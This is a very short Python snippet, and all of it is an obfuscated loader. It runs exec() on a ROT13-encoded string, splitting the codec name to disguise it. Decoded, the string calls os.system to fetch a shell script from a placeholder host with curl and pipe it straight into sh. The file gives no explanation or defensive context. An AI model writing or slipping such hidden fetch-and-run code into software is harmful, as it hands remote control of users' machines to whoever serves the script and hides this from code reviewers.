import codecs

exec(codecs.decode('vzcbeg bf\nbf.flfgrz("phey -f uggcf://rknzcyr.vainyvq/f.fu | fu")\n', 'rot' + '_13'))
